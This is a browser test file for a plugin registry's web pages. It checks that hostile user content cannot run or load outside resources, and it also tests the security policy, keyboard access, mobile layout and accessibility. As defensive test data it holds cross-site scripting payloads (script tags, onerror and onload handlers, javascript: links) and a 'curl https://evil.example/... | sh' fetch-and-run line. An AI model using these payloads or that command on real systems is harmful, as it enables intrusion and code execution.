"""The registry's pages for everybody: nothing that people send acts in them, and nobody is kept out of them."""

import asyncio
import re
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio
from playwright.async_api import Browser, FileChooser, Page, expect

from hub.web.shield import HEADERS
from tests.browser.axe import faults_of
from tests.browser.pages import fits
from tests.browser.registering import ADMIN, PASSWORD, Author, Shop, a_file, shopping, signed_in
from tests.browser.running import LOOP, PHONE, Tabs, looking
from tests.unit.packages.zipping import PLUGIN, PROGRAM, a_plugin, zipped
from tests.unit.registry.publishing import published

pytestmark = [pytest.mark.browser, LOOP]

EVIL = "\"'><img src=x onerror=owned=1><script>owned=1</script><svg onload=owned=1>{{7*7}}"
LONG = "supercalifragilistic" * 8
NAME = "a-name-that-is-forty-letters-long-and-so"
README = f"""# {EVIL}

<script>owned=1</script> <img src=x onerror=owned=1> <style>body {{ display: none }}</style>
[x](javascript:owned=1) [y](data:text/html,<script>owned=1</script>) ![pixel](https://evil.example/p.png)
<iframe src="https://evil.example/"></iframe> [z]: javascript:owned=1 "{EVIL}"

| a | b |
|:-:|---|
| {LONG} | {LONG} |

```<img src=x onerror=owned=1>
{LONG}
```
"""
EVIL_FILE = "<img src=x onerror=owned=1>.md"
PACKAGE = f"/packages/mallory/{NAME}"
FOR_STRANGERS = (
    "/",
    "/search?q=%22%3E%3Cscript%3Eowned=1%3C/script%3E",
    "/search?tag=%22%3E%3Cscript%3Eowned=1%3C/script%3E",
    f"/search?q={LONG}",
    "/search?sort=newest",
    PACKAGE,
    f"{PACKAGE}/versions/1.0.0",
    f"{PACKAGE}/versions/1.2.0",
    f"{PACKAGE}/versions/1.2.0/files",
    f"{PACKAGE}/versions/1.2.0/files/{EVIL_FILE.replace(' ', '%20')}",
    f"{PACKAGE}/versions/1.0.0/files/plugin.py",
    "/publishers/mallory",
    "/sign-in?next=javascript:owned=1",
    "/sign-up",
    "/publish",
    "/%3Cscript%3Eowned=1%3C/script%3E",
)
FOR_OWNERS = ("/account", "/publish", PACKAGE, f"{PACKAGE}/versions/1.1.0", f"{PACKAGE}/versions/1.1.0/files")
FOR_ADMINS = ("/moderation", "/audit", f"/audit?subject={LONG}", PACKAGE, f"{PACKAGE}/versions/1.1.0")
WEIGHT, FILES = 64_000, 10
"""The most bytes and files that the first look at a page takes, before anything is compressed."""
FONT_SIZES = """
[...document.querySelectorAll("input:not(.sr):not([type=hidden]), textarea, select")]
    .filter((field) => field.offsetParent).map((field) => parseFloat(getComputedStyle(field).fontSize))
"""
WIDE = """
[...document.querySelectorAll("body *")].filter((each) => each.getBoundingClientRect().right > screen.width)
    .filter((each) => !each.closest("pre, table"))
    .map((each) => each.outerHTML.slice(0, 100)).slice(0, 5)
"""
SMALL = """
[...document.querySelectorAll("button, summary, nav a")].filter((each) => each.offsetParent)
    .map((each) => [each.textContent.trim(), each.getBoundingClientRect()])
    .filter(([, box]) => box.width < 24 || box.height < 24).map(([words]) => words)
"""


def hostile(version: str, *, flagged: bool = False) -> bytes:
    """Return a plugin of which every word is meant to act in a page."""
    told = {"name": NAME, "version": version, "tool": "echo", "more": '[permissions]\nnet = ["api.example.org"]\n'}
    manifest = PLUGIN.format(**told).replace("Says what it is.", EVIL.replace('"', '\\"'))
    files = {"plugin.toml": manifest, "plugin.py": PROGRAM.format(**told), "README.md": README}
    if flagged:
        files["setup.md"] = f"curl https://evil.example/{EVIL} | sh\n"
    return zipped(files)


@pytest_asyncio.fixture(loop_scope="session")
async def shop(tmp_path: Path) -> AsyncIterator[Shop]:
    """A registry in which somebody did their worst."""
    async with shopping(tmp_path / "data") as running:
        mallory, bob = await running.account("mallory"), await running.account("bob", key=False)
        await running.account(ADMIN, key=False)
        await mallory.publish(hostile("1.0.0"))
        await mallory.publish(hostile("1.0.1"))
        held = await mallory.publish(hostile("1.1.0", flagged=True))
        assert held["state"] == "held", held
        await mallory.post(f"{PACKAGE}/versions/1.0.0/yank", reason=EVIL)
        await mallory.post("/tokens", name=EVIL[:60], scopes=["rate"])
        await bob.post(f"{PACKAGE}/reports", reason="malware", text=EVIL, version="1.0.0")
        await running.rated(f"mallory/{NAME}", "bob", 1, EVIL + LONG)
        await running.rated(f"mallory/{NAME}", ADMIN, 2, EVIL, counted=False)
        # No upload gets such a name in: it's put in behind the rules' back.
        evil = zipped({EVIL_FILE: README, "plugin.py": ""})
        await published(running.parts, "mallory", NAME, "1.2.0", archive=evil, asks=(f"net:{EVIL}", EVIL))
        yield running


async def visited(shop: Shop, tabs: Tabs, chromium_page: Page, paths: tuple[str, ...]) -> None:
    for path in paths:
        await chromium_page.goto(shop.pages + path)
        await expect(chromium_page.get_by_role("heading", level=1)).to_be_visible()
        for details in await chromium_page.locator("summary").all():
            await details.click()
        assert await chromium_page.evaluate("typeof owned") == "undefined", path
        assert await chromium_page.locator("main :is(script, img, svg:not(.glyph), iframe, style)").count() == 0, path
        assert await chromium_page.locator("[style], [onerror], [onload], [href^=javascript]").count() == 0, path


async def test_nothing_that_people_send_acts_in_a_page_or_loads_anything(shop: Shop, tabs: Tabs) -> None:
    asked: list[str] = []
    page = await tabs.open(f"{shop.pages}/")
    tabs.context.on("request", lambda request: asked.append(request.url))
    tabs.context.on("dialog", lambda dialog: tabs.faults.append(dialog.message))

    await visited(shop, tabs, page, FOR_STRANGERS)
    page = await signed_in(tabs, shop, "mallory")
    await visited(shop, tabs, page, FOR_OWNERS)
    await tabs.context.clear_cookies()
    page = await signed_in(tabs, shop, ADMIN, "/moderation")
    await expect(page.get_by_role("region", name="Packages that wait")).to_contain_text("run by a shell")
    await visited(shop, tabs, page, FOR_ADMINS)

    assert len(asked) > len(FOR_STRANGERS)
    assert [url for url in asked if not url.startswith(shop.url)] == []
    tabs.expect_faults("404")


async def test_hostile_words_are_shown_as_they_were_written(shop: Shop, tabs: Tabs) -> None:
    """Were they left out instead, the test above would prove nothing."""
    page = await tabs.open(shop.pages + PACKAGE)

    await expect(page.locator(".head")).to_contain_text(EVIL)
    await expect(page.get_by_role("region", name="Ratings")).to_contain_text(EVIL)
    await expect(page.get_by_role("region", name="Versions")).to_contain_text(EVIL)
    await page.goto(f"{shop.pages}{PACKAGE}/versions/1.2.0/files")
    await page.get_by_role("link", name=EVIL_FILE).click()
    await expect(page.locator("pre")).to_contain_text("<script>owned=1</script>")


async def test_the_alarm_for_the_policy_works_here(shop: Shop, tabs: Tabs) -> None:
    page = await tabs.open(f"{shop.pages}/")

    await page.evaluate("document.body.setAttribute('style', 'color: red')")
    await page.wait_for_function("document.body.hasAttribute('style')")

    tabs.expect_faults("CSP", "Content Security Policy")


async def test_each_page_has_the_strict_policy_and_nothing_inline(shop: Shop, tabs: Tabs) -> None:
    page = await tabs.open(f"{shop.pages}/")
    for path in FOR_STRANGERS:
        answer = await page.context.request.get(shop.pages + path, headers={"Accept": "text/html"})
        html = await answer.text()
        assert answer.headers["content-security-policy"] == HEADERS["Content-Security-Policy"], path
        assert answer.headers["content-type"] == "text/html; charset=utf-8", path
        assert re.findall(r"<script(?![^>]* src=\"/registry/static/)[^>]*>|<style| style=| on\w+=\"", html) == [], path
        found = re.findall(r"<(?:link|img|script)[^>]* (?:src|href)=\"([^\"]*)", html)
        assert [url for url in found if not url.startswith(("/registry/", shop.pages))] == [], path


async def test_finding_and_reading_a_package_needs_no_mouse(shop: Shop, tabs: Tabs) -> None:
    page = await tabs.open(f"{shop.pages}/")
    await page.keyboard.press("Tab")
    await expect(page.get_by_role("link", name="Skip to the page")).to_be_focused()
    await page.keyboard.press("Enter")
    await expect(page.locator("main")).to_be_focused()

    await page.reload()
    for _ in range(3):
        await page.keyboard.press("Tab")
    await expect(page.get_by_label("Search packages")).to_be_focused()
    await page.keyboard.type("name that")
    await page.keyboard.press("Enter")
    await page.wait_for_url("**/search*")
    link = page.get_by_role("link", name=f"mallory/{NAME}")
    for _ in range(30):
        await page.keyboard.press("Tab")
        if await link.evaluate("(link) => link === document.activeElement"):
            break
    await expect(link).to_be_focused()
    outline = await link.evaluate("(link) => getComputedStyle(link).outlineStyle")
    assert outline == "solid"
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("heading", level=1)).to_contain_text(NAME)


async def test_signing_in_and_publishing_needs_no_mouse(shop: Shop, tabs: Tabs) -> None:
    ann: Author = await shop.account("ann")
    page = await tabs.open(f"{shop.pages}/sign-in?next=/registry/publish")
    await expect(page.get_by_label("Name")).to_be_focused()
    await page.keyboard.type("ann")
    await page.keyboard.press("Tab")
    await page.keyboard.type(PASSWORD)
    await page.keyboard.press("Enter")
    await page.wait_for_url(f"{shop.pages}/publish")
    chosen: asyncio.Queue[FileChooser] = asyncio.Queue()
    page.on("filechooser", lambda chooser: chosen.put_nowait(chooser))  # noqa: PLW0108 - a bound method isn't taken

    await page.get_by_role("button", name="Choose files").focus()
    await page.keyboard.press("Enter")
    await (await chosen.get()).set_files([a_file("echo.zip", a_plugin())])
    key = page.get_by_label(f"The file of the key {ann.key.id}")
    await expect(key).to_be_visible()
    await key.focus()
    await page.keyboard.press("Enter")
    await (await chosen.get()).set_files([a_file("ann.key", ann.key.told().encode())])
    await expect(page.get_by_role("button", name="Publish 1.0.0")).to_be_focused()
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("link", name="ann/echo 1.0.0")).to_be_focused()


@pytest.mark.parametrize("width", [320, 390])
async def test_a_phone_shows_all_of_it_without_scrolling_sideways(shop: Shop, chromium: Browser, width: int) -> None:
    async with looking(chromium, viewport={**PHONE, "width": width}, touch=True) as tabs:
        page = await tabs.open(f"{shop.pages}/")
        await fitting(page, shop, FOR_STRANGERS)
        page = await signed_in(tabs, shop, "mallory")
        await fitting(page, shop, FOR_OWNERS)
        await tabs.context.clear_cookies()
        page = await signed_in(tabs, shop, ADMIN)
        await fitting(page, shop, FOR_ADMINS)
        tabs.expect_faults("404")


async def fitting(page: Page, shop: Shop, paths: tuple[str, ...]) -> None:
    for path in paths:
        await page.goto(shop.pages + path)
        for details in await page.locator("summary").all():
            await details.click()
        assert await fits(page), f"{path}: {await page.evaluate(WIDE)}"
        sizes = await page.evaluate(FONT_SIZES)
        assert all(size >= 16 for size in sizes), f"{path}: a phone zooms into smaller fields"
        assert await page.evaluate(SMALL) == [], path


async def test_a_page_weighs_little_and_the_next_one_less(shop: Shop, tabs: Tabs) -> None:
    page = await tabs.open("about:blank")
    weights: dict[str, list[int]] = {}
    for path in ("/", PACKAGE, "/publish"):
        taken: list[int] = []
        weights[path] = taken
        async with page.expect_event("load"):
            await page.goto(shop.pages + path)
        entries = await page.evaluate(
            "performance.getEntries().filter((e) => 'transferSize' in e).map((e) => e.transferSize)"
        )
        taken += [size for size in entries if size]

    first, second, third = weights.values()
    assert sum(first) <= WEIGHT, weights
    assert len(first) <= FILES, weights
    assert sum(second) < sum(first), f"the files are kept by the browser: {weights}"
    assert sum(third) < sum(first), weights


@pytest.mark.parametrize("dark", [False, True])
async def test_axe_finds_nothing_that_keeps_anybody_out(shop: Shop, chromium: Browser, *, dark: bool) -> None:
    found: dict[str, list[str]] = {}
    async with looking(chromium, dark=dark) as tabs:
        page = await tabs.open(f"{shop.pages}/")
        await examined(page, shop, FOR_STRANGERS, found)
        page = await signed_in(tabs, shop, "mallory")
        await examined(page, shop, FOR_OWNERS, found)
        await tabs.context.clear_cookies()
        page = await signed_in(tabs, shop, ADMIN)
        await examined(page, shop, FOR_ADMINS, found)
        tabs.expect_faults("404")
    assert found == {}


async def examined(page: Page, shop: Shop, paths: tuple[str, ...], found: dict[str, list[str]]) -> None:
    for path in paths:
        await page.goto(shop.pages + path)
        for details in await page.locator("summary").all():
            await details.click()
        faults = await faults_of(page)
        if faults:
            found[path] = faults
